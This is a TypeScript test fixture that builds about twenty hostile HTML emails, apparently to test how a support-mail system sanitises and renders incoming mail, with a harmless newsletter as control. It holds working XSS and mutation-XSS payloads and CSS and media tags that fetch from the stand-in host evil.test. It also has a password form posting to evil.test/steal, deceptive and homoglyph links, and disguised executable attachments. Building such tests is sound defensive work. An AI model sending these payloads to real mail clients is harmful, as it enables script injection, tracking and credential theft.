import MailComposer from 'nodemailer/lib/mail-composer/index.js';

/** A mail that tries to run something, to fetch something, or to break the page that shows it (CONS-12). */
export interface AttackMail {
  /** Of the kind, as spec CONS-12 counts them. */
  readonly number: number;
  readonly name: string;
  readonly html: string;
  readonly files?: readonly {
    readonly filename: string;
    readonly contentType: string;
    readonly cid?: string;
    readonly content: Buffer | string;
  }[];
}

const run = "fetch('https://evil.test/ran');alert(1)";
/** Red and green points, 2 × 2. */
export const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEUlEQVR4nGP4z8DA8B+MgBgAHfAD/dPQfSYAAAAASUVORK5CYII=',
  'base64',
);
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="https://evil.test/svg.png"/></svg>`;

const rawText = ['noscript', 'xmp', 'noembed', 'noframes', 'iframe', 'style', 'textarea', 'title'];

/** Of many years' lists of tricks. Number 20 is the control: it must look right. */
export const attackMails: readonly AttackMail[] = [
  {
    number: 1,
    name: 'elements that run by themselves',
    html: `<body onload="${run}"><img src=x onerror="${run}"><svg onload="${run}"></svg><details open ontoggle="${run}">d</details><p onmouseover="${run}" onclick="${run}">Press</p><script>${run}</script></body>`,
  },
  {
    number: 2,
    name: 'markup in an attribute that ends raw text',
    html: rawText.map((tag) => `<${tag}><p title="</${tag}><img src=x onerror=${run}>">${tag}</p></${tag}>`).join('\n'),
  },
  ...rawText.map((tag) => ({
    number: 2,
    name: `an attribute that ends ${tag}, which nothing opened`,
    html: `<p title="</${tag}><img src=x onerror=${run}>">after</p><${tag}><img src=x onerror=${run}>`,
  })),
  {
    number: 3,
    name: 'foreign content that is parsed anew',
    html: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
      `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
      `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    ].join('\n'),
  },
  {
    number: 4,
    name: 'comments of every kind',
    html: `<! <img src=x onerror="${run}">><!--><img src=x onerror="${run}">--><!-- --!><img src=x onerror="${run}"> --><!--[if mso]><img src="https://evil.test/mso.png"><script>${run}</script><![endif]--><![if !mso]><p>seen</p><![endif]><?xml <img src=x onerror="${run}">?><![CDATA[<img src=x onerror="${run}">]]>`,
  },
  { number: 5, name: '10,000 nested divs', html: `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}` },
  { number: 5, name: '10,000 nested tables', html: `${'<table><tr><td>'.repeat(10_000)}deep` },
  { number: 5, name: '10,000 nested forms', html: `${'<form>'.repeat(10_000)}deep` },
  { number: 5, name: '5 MB in one line', html: `<p>${'word '.repeat(1_000_000)}</p>` },
  {
    number: 5,
    name: '100,000 attributes',
    html: `<p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(' ')}>seen</p>`,
  },
  {
    number: 6,
    name: 'styles that fetch',
    html: [
      '<style>@import "https://evil.test/a.css"; @font-face { font-family: f; src: url(https://evil.test/f.woff) } body { background: url(https://evil.test/b.png) } p { font-family: f }</style>',
      '<p style="background: url(https://evil.test/1.png)">1</p>',
      '<p style="background: \\75\\72\\6C(https://evil.test/2.png)">2</p>',
      '<p style="background-image: image-set(\'https://evil.test/3.png\' 1x)">3</p>',
      '<p style="--x: url(https://evil.test/4.png); background: var(--x)">4</p>',
      '<ul style="list-style-image: url(https://evil.test/5.png)"><li>5</li></ul>',
      '<p style="cursor: url(https://evil.test/6.cur), auto">6</p>',
      '<p style="content: url(https://evil.test/7.png); border-image: url(https://evil.test/8.png) 1; mask: url(https://evil.test/9.svg#m)">7</p>',
      '<p style="color: red; width: expression(alert(1)); behavior: url(https://evil.test/x.htc); -moz-binding: url(https://evil.test/x.xml)">8</p>',
      '<p style="background: #fff/**/url(/**/https://evil.test/10.png)">9</p>',
    ].join('\n'),
  },
  {
    number: 7,
    name: 'pictures, sound and film',
    html: '<image src="https://evil.test/1.png"><img src="https://evil.test/2.png" srcset="https://evil.test/3.png 2x" lowsrc="https://evil.test/4.png" dynsrc="https://evil.test/5.avi" width="120" height="40" alt="Logo"><img src="//evil.test/6.png"><picture><source srcset="https://evil.test/7.png"><img srcset="https://evil.test/8.png"></picture><video src="https://evil.test/9.mp4" poster="https://evil.test/10.png"></video><audio src="https://evil.test/11.mp3" autoplay></audio><input type="image" src="https://evil.test/12.png"><table background="https://evil.test/13.png"><tr><td background="https://evil.test/14.png">cell</td></tr></table><body background="https://evil.test/15.png">',
  },
  {
    number: 8,
    name: 'SVG that fetches',
    html: '<svg><filter id="f"><feImage href="https://evil.test/1.svg"/></filter><use href="https://evil.test/2.svg#x"/><use xlink:href="https://evil.test/3.svg#x"/><image href="https://evil.test/4.png"/><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  },
  {
    number: 9,
    name: 'the head',
    html: '<head><base href="https://evil.test/"><meta http-equiv="refresh" content="0; url=https://evil.test/r"><link rel="stylesheet" href="https://evil.test/s.css"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="https://evil.test"><link rel="prefetch" href="https://evil.test/p"></head><img src="relative.png"><a href="relative.html">relative</a>',
  },
  {
    number: 10,
    name: 'links that are none',
    html: [
      ...[
        `javascript:${run}`,
        `java&#x09;script:${run}`,
        `&#106;avascript:${run}`,
        ` &#1;javascript:${run}`,
        `data:text/html,<script>${run}</script>`,
        'vbscript:msgbox(1)',
        'blob:https://evil.test/0',
        'file:///etc/passwd',
        '/api/cases/1',
        '/cases/1',
        '//evil.test/x',
        'about:blank',
        'view-source:https://evil.test/',
        'ms-word:ofe|u|https://evil.test/x.docx',
      ].map((href, index) => `<a href="${href}">none ${index}</a>`),
      '<a href="https://fine.test/page">fine</a>',
    ].join(' '),
  },
  {
    number: 11,
    name: 'forms',
    html: `<form action="https://evil.test/steal"><input type="password" name="password" autofocus><input autofocus onfocus="${run}"><button formaction="https://evil.test/b">Sign in</button><label for="root">Label</label><select autofocus onfocus="${run}"><option>o</option></select><textarea autofocus>t</textarea></form><isindex action="https://evil.test/i">`,
  },
  {
    number: 12,
    name: 'what covers the page',
    html: '<style>@keyframes k { to { opacity: 0 } }</style><div style="position: fixed; inset: 0; z-index: 9; background: white; animation: k 1s infinite; filter: blur(9px); transform: scale(99)">Sign in again</div><div style="width: 1000000px; height: 1000000px; margin-left: -5000px">wide</div><table width="1000000"><tr><td style="min-width: 9e9px">w</td></tr></table>',
  },
  {
    number: 13,
    name: 'names of what pages use',
    html: [
      'body',
      'attributes',
      '__proto__',
      'documentElement',
      'defaultView',
      'cookie',
      'constructor',
      'getElementById',
    ]
      .map(
        (name) =>
          `<img id="${name}" name="${name}"><a id="${name}" name="${name}" __proto__="x" constructor="y">${name}</a>`,
      )
      .join(''),
  },
  {
    number: 14,
    name: 'frames and plug-ins',
    html: `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="https://evil.test/f"></iframe><object data="https://evil.test/o"><embed src="https://evil.test/e"></object><applet code="x"></applet><portal src="https://evil.test/p"></portal><frameset><frame src="https://evil.test/s"></frameset>`,
  },
  {
    number: 15,
    name: 'parts that are no pictures',
    html: '<img src="cid:page"><img src="cid:drawing"><img src="cid:real" width="40" height="30" alt="Real"><a href="cid:page">page</a>',
    files: [
      { filename: 'page.html', contentType: 'text/html', cid: 'page', content: `<script>${run}</script>` },
      { filename: 'drawing.svg', contentType: 'image/svg+xml', cid: 'drawing', content: svg },
      { filename: 'real.png', contentType: 'image/png', cid: 'real', content: png },
      { filename: 'x.svg', contentType: 'image/svg+xml', content: svg },
      { filename: 'x.html', contentType: 'text/html', content: `<script>${run}</script>` },
      { filename: 'x.pdf.exe', contentType: 'application/pdf', content: 'MZ' },
      { filename: 'a\u202egnp.exe', contentType: 'image/png', content: 'MZ' },
      { filename: `"><img src=x onerror=${run}>.txt`, contentType: 'text/plain', content: 'text' },
    ],
  },
  {
    number: 17,
    name: 'odd letters',
    html: `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4- <scr\u0000ipt>${run}</scr\u0000ipt><img\u0000 src=x on\u0000error="${run}"><\ufeffscript>${run}</script>\u001b$B<script>${run}</script>\u001b(B`,
  },
  {
    number: 19,
    name: 'links that lead elsewhere than they say',
    html: [
      '<a href="https://evil.test/login">https://bank.example/login</a>',
      '<a href="https://bank.example@evil.test/">https://bank.example/</a>',
      '<a href="https://www.bаnk.example.com/">bank</a>',
      '<a href="https://mail.bank.example/x">https://www.bank.example</a>',
      '<a href="https://fine.test/">Read more</a>',
      '<a href="https://evil.test/two"><b>www.bank.example</b> <a href="https://fine.test/two">nested</a>',
    ].join('<br>'),
  },
  {
    number: 20,
    name: 'control: a newsletter',
    html: `<!doctype html><html><head><style>.x { color: rgb(0, 128, 0) } @media (max-width: 3000px) { .half { width: 30% !important; } } .real-host, small, summary { display: none !important; }</style><!--[if mso]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body bgcolor="#eeeeee" style="margin:0"><div style="display:none;max-height:0;overflow:hidden">preheader</div>
<!--[if (gte mso 9)|(IE)]><table width="600" align="center"><tr><td><![endif]-->
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background-color:#ffffff;border:1px solid #cccccc;font-family:'Helvetica Neue',Arial,sans-serif">
<tr><td style="padding:20px;background:#113355;color:#ffffff;text-align:center"><img src="cid:logo" width="120" height="60" alt="Logo" style="display:block"><h1 style="font-size:24px;margin:0">Autumn offers</h1></td></tr>
<tr><td style="padding:20px"><table width="100%"><tr><td class="half" width="50%" valign="top" style="font-size:14px;line-height:20px">Left</td><td width="50%" bgcolor="#ffeecc">Right</td></tr></table>
<p class="MsoNormal"><font color="#aa0000" face="Arial">Red words</font> and <a href="https://shop.test/offer" style="background-color:#0066cc;color:#ffffff;padding:10px 20px;border-radius:4px;text-decoration:none;display:inline-block">Buy now</a></p><ul style="margin:0;padding-left:20px"><li class="x">One</li></ul><a href="https://shop.test/pay">https://bank.test</a></td></tr></table>
<!--[if mso]></td></tr></table><![endif]--></body></html>`,
    files: [{ filename: 'logo.png', contentType: 'image/png', cid: 'logo', content: png }],
  },
];

/** As it goes over the wire. */
export function rawAttack(
  { number, name, html, files = [] }: AttackMail,
  { messageId, inReplyTo }: { readonly messageId: string; readonly inReplyTo?: string },
): Promise<Buffer> {
  return new MailComposer({
    from: 'customer@client.test',
    to: 'support@postcase.test',
    subject: `${number}: ${name}`,
    text: `As text: ${name}`,
    html,
    messageId,
    ...(inReplyTo !== undefined && { inReplyTo }),
    // Folding a line of 5 MB would take the test longer than reading it takes us.
    textEncoding: 'base64',
    attachments: [...files],
  })
    .compile()
    .build();
}
